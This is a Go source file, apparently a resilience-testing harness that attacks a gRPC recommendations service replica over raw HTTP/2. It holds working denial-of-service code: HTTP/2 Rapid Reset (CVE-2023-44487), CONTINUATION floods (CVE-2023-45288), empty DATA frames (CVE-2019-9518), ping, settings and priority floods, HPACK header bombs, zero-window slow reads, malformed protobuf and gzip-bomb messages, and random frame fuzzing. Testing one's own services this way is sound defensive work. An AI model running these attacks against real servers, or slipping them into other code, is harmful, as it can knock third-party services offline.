package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/encoding/protowire"
)

const (
	service  = "/recommendations.v1.RecommendationsService/"
	watching = "/grpc.health.v1.Health/Watch"
	asking   = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
	maxFrame = 16 << 10 // bytes, unless a server allows more
)

// wire is one HTTP/2 connection to a replica, written frame by frame. Only one goroutine
// may write.
type wire struct {
	conn net.Conn
	*http2.Framer
	raid *raid

	block  bytes.Buffer
	encode *hpack.Encoder
	stream uint32 // the next one

	writing sync.Mutex // held for Framer's writes
	window  atomic.Int64
	gone    atomic.Bool // the other side has closed
}

// wires opens connections to the replica and attacks on each, until the attack is over. A
// deaf attacker reads nothing that comes back.
func (r *raid) wires(ctx context.Context, n int, deaf bool, settings []http2.Setting, attack func(context.Context, *wire)) {
	r.crowd(ctx, n, r.replica, func(ctx context.Context, c net.Conn) {
		w := &wire{conn: c, Framer: http2.NewFramer(c, c), raid: r, stream: 1}
		w.AllowIllegalWrites, w.AllowIllegalReads = true, true
		w.encode = hpack.NewEncoder(&w.block)
		w.window.Store(65535)
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil || w.WriteSettings(settings...) != nil {
			return
		}
		reading := make(chan struct{})
		if deaf {
			close(reading)
		} else {
			go func() {
				defer close(reading)
				w.read()
			}()
		}
		attack(ctx, w)
		if ctx.Err() == nil && !w.gone.Load() { // hold what was taken
			select {
			case <-ctx.Done():
			case <-reading:
				if deaf {
					<-ctx.Done()
				}
			}
		}
		_ = c.Close()
		<-reading
	})
}

// read reads frames until the connection ends, as a client does.
func (w *wire) read() {
	defer w.gone.Store(true)
	for {
		f, err := w.ReadFrame()
		if err != nil {
			var code http2.ConnectionError
			if errors.As(err, &code) {
				continue
			}
			w.raid.count("connections ended: "+brief(err), 1)
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				w.writing.Lock()
				_ = w.WriteSettingsAck() // the connection may have ended
				w.writing.Unlock()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				w.writing.Lock()
				_ = w.WritePing(true, f.Data)
				w.writing.Unlock()
			}
		case *http2.WindowUpdateFrame:
			if f.StreamID == 0 {
				w.window.Add(int64(f.Increment))
			}
		case *http2.GoAwayFrame:
			w.raid.count("GOAWAY "+f.ErrCode.String(), 1)
		case *http2.RSTStreamFrame:
			w.raid.count("streams reset", 1)
		}
	}
}

// head returns the header block of a call.
func (w *wire) head(path string, more ...string) []byte {
	w.block.Reset()
	fields := append([]string{
		":method", "POST", ":scheme", "http", ":path", path, ":authority", "replica",
		"content-type", "application/grpc", "te", "trailers",
	}, more...)
	for i := 0; i < len(fields); i += 2 {
		_ = w.encode.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) // a bytes.Buffer takes all
	}
	return w.block.Bytes()
}

// begin opens a stream with headers and returns its number, 0 if the connection has ended.
func (w *wire) begin(path string, more ...string) uint32 {
	w.writing.Lock()
	defer w.writing.Unlock()
	id := w.stream
	w.stream += 2
	if w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: w.head(path, more...), EndHeaders: true}) != nil {
		return 0
	}
	w.raid.count("streams", 1)
	return id
}

// data sends bytes on a stream, once the connection's window has room. It returns false if
// the connection has ended.
func (w *wire) data(ctx context.Context, stream uint32, end bool, content []byte) bool {
	for w.window.Load() < int64(len(content)) && !w.gone.Load() && ctx.Err() == nil {
		sleep(ctx, time.Millisecond)
	}
	w.writing.Lock()
	defer w.writing.Unlock()
	w.window.Add(-int64(len(content)))
	for len(content) > maxFrame {
		if w.WriteData(stream, false, content[:maxFrame]) != nil {
			return false
		}
		content = content[maxFrame:]
	}
	return ctx.Err() == nil && w.WriteData(stream, end, content) == nil
}

// message frames a message of a call, of which perhaps only a part follows.
func message(content []byte, length int) []byte {
	framed := make([]byte, 5, 5+len(content))
	binary.BigEndian.PutUint32(framed[1:], uint32(length))
	return append(framed, content...)
}

// whole frames a message.
func whole(content []byte) []byte { return message(content, len(content)) }

// field returns a message with one integer.
func field(number protowire.Number, value uint64) []byte {
	return protowire.AppendVarint(protowire.AppendTag(nil, number, protowire.VarintType), value)
}

// within returns a message with one message in it.
func within(number protowire.Number, content []byte) []byte {
	return protowire.AppendBytes(protowire.AppendTag(nil, number, protowire.BytesType), content)
}

// rapidReset opens calls, evenly over the attack, and resets each at once (CVE-2023-44487).
func rapidReset(ctx context.Context, r *raid) error {
	const on, all = 4, 20_000
	r.wires(ctx, on, false, nil, func(ctx context.Context, w *wire) {
		ticker := time.NewTicker(time.Millisecond)
		defer ticker.Stop()
		began, each := time.Now(), r.n(all/on)
		for n := range each {
			for time.Since(began) < r.length*time.Duration(n)/time.Duration(each) {
				<-ticker.C
			}
			id := w.begin(service + "Recommend")
			if id == 0 || ctx.Err() != nil || !w.data(ctx, id, true, whole(field(1, 1))) {
				return
			}
			w.writing.Lock()
			err := w.WriteRSTStream(id, http2.ErrCodeCancel)
			w.writing.Unlock()
			if err != nil {
				return
			}
		}
	})
	return nil
}

// flood repeats one frame on each of ten connections.
func flood(what string, times int, deaf bool, write func(*wire) error) func(context.Context, *raid) error {
	return func(ctx context.Context, r *raid) error {
		r.wires(ctx, 10, deaf, nil, func(ctx context.Context, w *wire) {
			for range r.n(times) {
				w.writing.Lock()
				err := write(w)
				w.writing.Unlock()
				if err != nil || ctx.Err() != nil {
					return
				}
				r.count(what, 1)
			}
		})
		return nil
	}
}

func ping(w *wire) error { return w.WritePing(false, [8]byte{1}) }
func settings(w *wire) error {
	return w.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 4096})
}
func priority(w *wire) error { return w.WritePriority(1, http2.PriorityParam{StreamDep: 3, Weight: 1}) }
func unknown(w *wire) error  { return w.WriteRawFrame(0xfa, 0, 1, make([]byte, 1000)) }

// continuations sends one header block that never ends (CVE-2023-45288).
func continuations(ctx context.Context, r *raid) error {
	r.wires(ctx, 4, false, nil, func(ctx context.Context, w *wire) {
		w.writing.Lock()
		defer w.writing.Unlock()
		if w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.head(service + "Recommend")}) != nil {
			return
		}
		for n := range r.n(4000) {
			w.block.Reset()
			_ = w.encode.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-%d", n), Value: strings.Repeat("x", 8<<10), Sensitive: true})
			if w.WriteContinuation(1, false, w.block.Bytes()) != nil || ctx.Err() != nil {
				return
			}
			r.count("CONTINUATION frames", 1)
		}
	})
	return nil
}

// headerBlocks sends headers that are large once they are decoded: of 15 MB each, and such
// as refer to one field of the dynamic table again and again.
func headerBlocks(ctx context.Context, r *raid) error {
	var small, large bytes.Buffer
	e := hpack.NewEncoder(&large)
	for i := range r.n(15) {
		_ = e.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-%d", i), Value: strings.Repeat("x", 1<<20), Sensitive: true})
	}
	e = hpack.NewEncoder(&small)
	for range r.n(8000) {
		_ = e.WriteField(hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("x", 4000)})
	}
	for name, block := range map[string][]byte{"blocks of 15 MB": large.Bytes(), "blocks that become 32 MB": small.Bytes()} {
		again, cancel := context.WithTimeout(ctx, r.length/2)
		r.wires(again, r.n(20), false, nil, func(ctx context.Context, w *wire) {
			w.writing.Lock()
			defer w.writing.Unlock()
			part, rest := block[:min(len(block), maxFrame)], block[min(len(block), maxFrame):]
			if w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: part}) != nil {
				return
			}
			for len(rest) > 0 {
				part, rest = rest[:min(len(rest), maxFrame)], rest[min(len(rest), maxFrame):]
				if w.WriteContinuation(1, len(rest) == 0, part) != nil || ctx.Err() != nil {
					return
				}
			}
			r.count(name, 1)
		})
		cancel()
	}
	return nil
}

// streams opens calls of a method, each with this content, which may be its end.
func streams(connections, each int, path string, content []byte, end bool) func(context.Context, *raid) error {
	return func(ctx context.Context, r *raid) error {
		r.wires(ctx, connections, false, nil, func(ctx context.Context, w *wire) {
			for range r.n(each) {
				id := w.begin(path)
				if id == 0 || ctx.Err() != nil || len(content) > 0 && !w.data(ctx, id, end, content) {
					return
				}
			}
		})
		return nil
	}
}

// deafDownloads asks for the catalogue and takes nothing of it.
func deafDownloads(ctx context.Context, r *raid) error {
	none := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
	r.wires(ctx, 5, false, none, func(ctx context.Context, w *wire) {
		for range r.n(400) {
			id := w.begin(service + "ListBooks")
			if id == 0 || ctx.Err() != nil || !w.data(ctx, id, true, whole(nil)) {
				return
			}
		}
	})
	return nil
}

// emptyData sends DATA frames without data (CVE-2019-9518).
func emptyData(ctx context.Context, r *raid) error {
	r.wires(ctx, 2, false, nil, func(ctx context.Context, w *wire) {
		id := w.begin(service + "RecordInteractions")
		for range r.n(40_000) {
			if id == 0 || ctx.Err() != nil || !w.data(ctx, id, false, nil) {
				return
			}
			r.count("empty DATA frames", 1)
		}
	})
	return nil
}

// messages sends messages that no client of ours sends.
func messages(ctx context.Context, r *raid) error {
	deep := field(1, 1)
	for len(deep) < 20_000 {
		deep = within(1, deep)
	}
	var groups []byte
	for range 20_000 {
		groups = protowire.AppendTag(groups, 100, protowire.StartGroupType)
	}
	unknowns := []byte{}
	for len(unknowns) < 60_000 {
		unknowns = append(unknowns, field(1000, 1)...)
	}
	compressed := whole([]byte(gzipped(8 << 20)))
	compressed[0] = 1
	contents := map[string][]byte{
		"deep messages": whole(deep), "groups in groups": whole(groups), "unknown fields": whole(unknowns),
		"invalid UTF-8": whole(within(2, []byte("\xff\xfe\xfd"))), "half a field": whole([]byte{0x0a, 0xff, 0xff, 0xff, 0xff, 0x0f}),
		"a length of 4 GB": {0, 0xff, 0xff, 0xff, 0xff, 1}, "a compressed message": compressed, "an unknown compression": {0xff, 0, 0, 0, 1, 1},
		"negative numbers": whole(append(field(1, 1<<63), field(3, 1<<63)...)),
	}
	r.wires(ctx, 4, false, nil, func(ctx context.Context, w *wire) {
		for range r.n(20) {
			for what, content := range contents {
				for _, method := range []string{"Recommend", "RecordInteractions", "Follow", "None"} {
					id := w.begin(service+method, "grpc-encoding", "gzip", "grpc-timeout", "1S")
					if id == 0 || ctx.Err() != nil || !w.data(ctx, id, true, content) {
						return
					}
					r.count(what, 1)
				}
			}
		}
	})
	return nil
}

// frames sends random frames, valid and invalid.
func frames(ctx context.Context, r *raid) error {
	r.wires(ctx, r.n(400), false, nil, func(ctx context.Context, w *wire) {
		random := rand.New(rand.NewPCG(1, uint64(w.conn.LocalAddr().(*net.TCPAddr).Port)))
		for range 200 {
			content := make([]byte, random.IntN(300))
			for i := range content {
				content[i] = byte(random.Uint32())
			}
			w.writing.Lock()
			err := w.WriteRawFrame(http2.FrameType(random.IntN(12)), http2.Flags(random.Uint32()), random.Uint32()%8, content)
			w.writing.Unlock()
			if err != nil || ctx.Err() != nil {
				return
			}
			r.count("random frames", 1)
		}
	})
	return nil
}
